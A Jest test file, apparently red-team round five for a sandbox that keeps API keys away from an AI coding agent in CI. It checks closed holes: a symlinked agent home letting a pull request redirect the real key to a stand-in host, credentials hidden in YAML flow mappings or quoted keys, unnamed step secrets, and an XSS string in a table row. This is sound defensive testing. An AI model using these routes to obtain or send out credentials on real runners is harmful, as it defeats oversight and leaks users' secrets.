/**
 * Red-team attacks, round 5: where Hermes' home is (a link into the workspace a pull request
 * controls), what the Isolation row and the warnings say of a credential in the agent's copy of
 * config.yaml, and the agent's config.yaml copy as PyYAML reads it. A test that passes is the
 * product holding; the three holes it found are closed (each comment says "Was a hole").
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterEach, describe, expect, test } from '@jest/globals';
import { runsAsOwnUser } from '../src/confine/confine.js';
import { modelSectionOf, withAnthropicBase } from '../src/config/hermes-config.js';
import { heldFact } from '../src/publish/model-calls.js';
import type { TurnGateway } from '../src/steps/gateway.js';
import { agentHomeOf, startTurn, type StartedTurn } from './helpers/turn-gateway.js';

const OR_KEY = 'sk-or-v1-real-key-round5-0123456789abcdef';
const AN_KEY = 'sk-ant-api03-real-key-round5-0123456789abcdef';
const OTHER = 'sk-or-v1-a-second-key-in-config-0123456789';

const made: string[] = [];
const tmp = (prefix: string): string => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  made.push(dir);
  return dir;
};
let turn: TurnGateway | undefined;
afterEach(async () => {
  await turn?.gateway?.close();
  turn = undefined;
  for (const dir of made.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

async function start(
  files: Parameters<typeof startTurn>[0],
  env: NodeJS.ProcessEnv
): Promise<StartedTurn> {
  const got = await startTurn(files, env);
  turn = got.turn;
  return got;
}

const USER_PLAN = { kind: 'user', via: 'root', setpriv: '/usr/bin/setpriv' } as const;

/** Whether the step would run the agent as its own user on this workspace and Hermes home. */
const ownUser = (workspace: string, hermesHome: string): boolean =>
  runsAsOwnUser({
    plan: USER_PLAN,
    executable: '/usr/bin/hermes',
    workspace,
    workingDirectory: workspace,
    env: { HERMES_HOME: hermesHome, HOME: tmp('rt5-runner-home-'), RUNNER_TEMP: tmp('rt5-temp-') }
  });

describe("Hermes' home and the workspace the agent is lent", () => {
  test("HERMES_HOME inside the workspace: the agent is not lent it (it would own Hermes' home)", () => {
    const workspace = tmp('rt5-ws-');
    fs.mkdirSync(path.join(workspace, '.hermes'));
    expect(ownUser(workspace, path.join(workspace, '.hermes'))).toBe(false);
  });

  test.each(['.env', 'config.yaml'])(
    'Hermes’ %s alone a link into the workspace: the agent is not lent it either',
    entry => {
      const workspace = tmp('rt5-ws-');
      fs.writeFileSync(path.join(workspace, entry), 'OPENROUTER_BASE_URL=https://pr.example\n');
      const home = tmp('rt5-runner-hermes-');
      fs.symlinkSync(path.join(workspace, entry), path.join(home, entry));
      expect(ownUser(workspace, home)).toBe(false);
    }
  );

  test('skills/ a link into the workspace (a team’s skills in the repository): still lent', () => {
    const workspace = tmp('rt5-ws-');
    fs.mkdirSync(path.join(workspace, 'skills'));
    const home = tmp('rt5-runner-hermes-');
    fs.symlinkSync(path.join(workspace, 'skills'), path.join(home, 'skills'));
    expect(ownUser(workspace, home)).toBe(true);
  });

  // Was a hole, now closed (medium-high, promise a): heldBy (confine.ts) compares path.resolve()d paths, not realpaths.
  // A Hermes home that is a link into the workspace (`ln -s "$GITHUB_WORKSPACE/.hermes" ~/.hermes`,
  // the "config checked in with the repository" set-up; or HERMES_HOME=/some/link) passes the check,
  // so the agent is lent the tree that holds Hermes' real home: it owns `.env`, `config.yaml`,
  // `skills/` (and `auth.json`, `.op.env` if there) for the run, and what it writes stays for the
  // next job on a self-hosted runner. And that home is the pull request's: its `.env` names the
  // upstream the gateway sends the real key to (OPENROUTER_BASE_URL, shown below), so a PR author
  // has the real key sent to their server while the summary says isolated and the key not held.
  // Fix: in heldBy, compare fs.realpathSync of each directory (and of the lent tree), falling back
  // to path.resolve only when it does not exist; and refuse (or warn and not front) when Hermes'
  // home, or its .env / config.yaml targets, resolve inside the workspace.
  test("HERMES_HOME a link into the workspace: the agent is still lent it, and the PR's .env routes the real key", async () => {
    const workspace = tmp('rt5-ws-');
    const inTree = path.join(workspace, '.hermes');
    fs.mkdirSync(inTree);
    // The pull request's file.
    fs.writeFileSync(inTree + '/.env', 'OPENROUTER_BASE_URL=https://pr-author.example/api/v1\n');
    const link = path.join(tmp('rt5-runner-'), '.hermes');
    fs.symlinkSync(inTree, link);
    // What follows from it: the gateway fronts OpenRouter at the PR's upstream.
    const got = await start({ home: link }, { OPENROUTER_API_KEY: OR_KEY });
    expect(got.turn.gateway?.fronted).toEqual([
      expect.objectContaining({
        provider: 'openrouter',
        upstream: 'https://pr-author.example/api/v1'
      })
    ]);
    expect(got.held).not.toContain('OPENROUTER_API_KEY');
    // The hole: a link is not the path it points at, for the check.
    expect(ownUser(workspace, link)).toBe(false);
  });
  // The same hole, worse (high, promise a): the real key itself. Isolation.prepare closes the
  // originals of Hermes' home by their realpath, then chowns every runner-owned file of the lent
  // tree to the agent: the linked home's `.env` (the workflow's `echo "OPENROUTER_API_KEY=…" >>
  // ~/.hermes/.env`) becomes the agent's own file, its mode no bar, while the gateway fronts the
  // key and the Isolation row says the agent did not hold it. Same fix (realpaths in heldBy).
  test("HERMES_HOME a link into the workspace, the real key in its .env: fronted, not said held, yet the agent's own file", async () => {
    const workspace = tmp('rt5-ws-');
    const inTree = path.join(workspace, '.hermes');
    fs.mkdirSync(inTree);
    const link = path.join(tmp('rt5-runner-'), '.hermes');
    fs.symlinkSync(inTree, link);
    const got = await start({ home: link, dotenv: `OPENROUTER_API_KEY=${OR_KEY}\n` }, {});
    expect(got.turn.gateway?.fronted.map(f => f.keyVariable)).toEqual(['OPENROUTER_API_KEY']);
    expect(got.held).not.toContain('OPENROUTER_API_KEY');
    // The file with the real key is in the tree lent (chowned) to the agent.
    expect(fs.realpathSync(path.join(link, '.env')).startsWith(fs.realpathSync(workspace))).toBe(
      true
    );
    expect(ownUser(workspace, link)).toBe(false);
  });
});

describe("a credential in the agent's copy of config.yaml, not a fronted key's", () => {
  test('block-style api_key of another key: said in a warning', async () => {
    const got = await start(
      { config: `model:\n  provider: anthropic\nauxiliary:\n  vision:\n    api_key: ${OTHER}\n` },
      { ANTHROPIC_API_KEY: AN_KEY }
    );
    expect(got.turn.gateway?.fronted.map(f => f.provider)).toEqual(['anthropic']);
    const agent = agentHomeOf(got);
    expect(agent.config).toContain(OTHER);
    expect(agent.warnings.join('\n')).toMatch(/api_key/);
    expect(agent.warnings.join('\n')).not.toContain(OTHER);
  });

  // Was a hole, now closed (low-medium, promise b): a credential in config.yaml that is not a fronted key's value is
  // found only by a line regex in fillAgentHome (`^\s*api_key\s*:\s*\S`): written in a flow mapping
  // or with a quoted key, it is copied to the agent unsaid, and the Isolation row (heldByAgent: env
  // and .env only) never names anything of config.yaml. The summary says the agent held nothing
  // while it read a working key in its copy. (A fronted key's value there is caught: configHolds.)
  // Fix: walk the parsed copy (as configHolds does) for keys named api_key / *_key / *token / secret
  // with a non-empty string value, warn of each by its path (`auxiliary.vision.api_key`), and add
  // "config.yaml: auxiliary.vision.api_key" to the held list the row prints.
  test.each([
    ['a flow mapping', `auxiliary: {vision: {provider: openrouter, api_key: ${OTHER}}}\n`],
    ['a quoted key', `auxiliary:\n  vision:\n    "api_key": ${OTHER}\n`]
  ])(
    'api_key of another key in %s: copied to the agent, unsaid and not in the held row',
    async (_what, rest) => {
      const config = `model:\n  provider: anthropic\n${rest}`;
      // PyYAML reads the key where Hermes looks for it.
      const py = spawnSync(
        'python3',
        [
          '-c',
          'import sys,yaml;print(yaml.safe_load(sys.stdin)["auxiliary"]["vision"]["api_key"])'
        ],
        { input: config, encoding: 'utf8' }
      );
      if (py.status === 0) expect(py.stdout.trim()).toBe(OTHER);
      const got = await start({ config }, { ANTHROPIC_API_KEY: AN_KEY });
      const agent = agentHomeOf(got);
      expect(agent.config).toContain(OTHER);
      const said =
        agent.warnings.some(w => /api_key/.test(w)) || got.held.some(h => /config\.yaml/.test(h));
      expect(said).toBe(true);
    }
  );
});

/** The agent's config.yaml copy as PyYAML loads it (undefined: python3 with PyYAML is not here). */
function pyLoad(text: string): Record<string, unknown> | undefined {
  const py = spawnSync(
    'python3',
    ['-c', 'import sys,json,yaml;print(json.dumps(yaml.safe_load(sys.stdin)))'],
    { input: text, encoding: 'utf8' }
  );
  if (py.status !== 0) return undefined;
  return JSON.parse(py.stdout) as Record<string, unknown>;
}

describe("the agent's config.yaml copy as PyYAML reads it", () => {
  const GW = 'http://127.0.0.1:40001';
  test.each([
    [
      'an alias of an anchored mapping',
      'm: &m {provider: openrouter, base_url: https://x.example}\nmodel: *m\n'
    ],
    ['a plain name', 'model: claude-sonnet\n'],
    [
      'a merge inside model',
      'b: &b {base_url: https://x.example}\nmodel:\n  <<: *b\n  provider: anthropic\n'
    ],
    ['a quoted key', '"model":\n  provider: anthropic\n  base_url: https://api.anthropic.com\n']
  ])('%s: model.provider anthropic and base_url the gateway', (_what, text) => {
    const section = modelSectionOf(text, 'c.yaml');
    expect(section.kind).not.toBe('unusable');
    const loaded = pyLoad(withAnthropicBase(section, GW));
    if (!loaded) return;
    const model = loaded.model as Record<string, unknown>;
    expect(model.provider).toBe('anthropic');
    expect(model.base_url).toBe(GW);
  });

  test.each([
    [
      'model twice, once quoted',
      'model:\n  provider: anthropic\n"model":\n  provider: openrouter\n'
    ],
    [
      'model twice, as an explicit key',
      'model: {provider: anthropic}\n? model\n: {provider: openrouter}\n'
    ],
    [
      'model twice inside model',
      'model:\n  provider: anthropic\n  base_url: a\n  base_url: https://x.example\n'
    ]
  ])('%s: not read for certain, so not fronted', (_what, text) => {
    expect(modelSectionOf(text, 'c.yaml').kind).toBe('unusable');
  });
});

describe('the Isolation row: the names of what the agent held', () => {
  test("a .env name with HTML in it is escaped in the row (the name is Hermes' home's)", () => {
    const row = heldFact(['<img src=x onerror=alert(1)>_TOKEN', '**bold**_KEY', 'A|B_SECRET']);
    // Backslash-escaped (`\<img`, `\*\*`): GFM shows the characters, not a tag or emphasis.
    expect(row).not.toMatch(/(^|[^\\])<img/);
    expect(row).not.toMatch(/(^|[^\\])\*\*bold/);
    expect(row).not.toMatch(/(^|[^\\])\|/);
  });

  test("a step-env credential by a name of Hermes' kind (_API_KEY, _TOKEN, _SECRET, _PASSWORD): named", async () => {
    const got = await start(
      {},
      { OPENROUTER_API_KEY: OR_KEY, DEPLOY_TOKEN: 'dt-0123456789', NPM_PASSWORD: 'pw-0123456789' }
    );
    expect(got.held).toEqual(expect.arrayContaining(['DEPLOY_TOKEN', 'NPM_PASSWORD']));
    expect(got.held).not.toContain('OPENROUTER_API_KEY');
  });

  // Was a hole, now closed (low, promise b): the row names a credential by its variable's name only
  // (providers.ts CREDENTIAL_NAME: `_API_KEY`, `_KEY`, `_TOKEN`, `_SECRET`, `_PASSWORD` at the end).
  // A secret the workflow gives the step under another common name (a personal access token as
  // `GITHUB_PAT`, a service account as `GCP_CREDENTIALS`, `DB_PASSWD`, a spare provider key as
  // `ANTHROPIC_API_KEY_2`) is in the agent's environment, and the row says the agent held nothing.
  // Fix: widen the name test (`PAT`, `PASS(WD)?`, `CREDENTIALS?`, `AUTH`, a key name followed by
  // `_\d+`), and/or name every variable whose value the runner masks (the workflow's secrets are
  // masked: compare the agent's environment against the values the action hides).
  test.each([['GITHUB_PAT'], ['GCP_CREDENTIALS'], ['DB_PASSWD'], ['ANTHROPIC_API_KEY_2']])(
    'a secret in the step env as %s: held by the agent, not named in the row',
    async name => {
      const got = await start(
        {},
        { OPENROUTER_API_KEY: OR_KEY, [name]: 'a-real-secret-0123456789abcdef' }
      );
      expect(got.agentEnv[name]).toBe('a-real-secret-0123456789abcdef');
      expect(got.held).toContain(name);
    }
  );
});
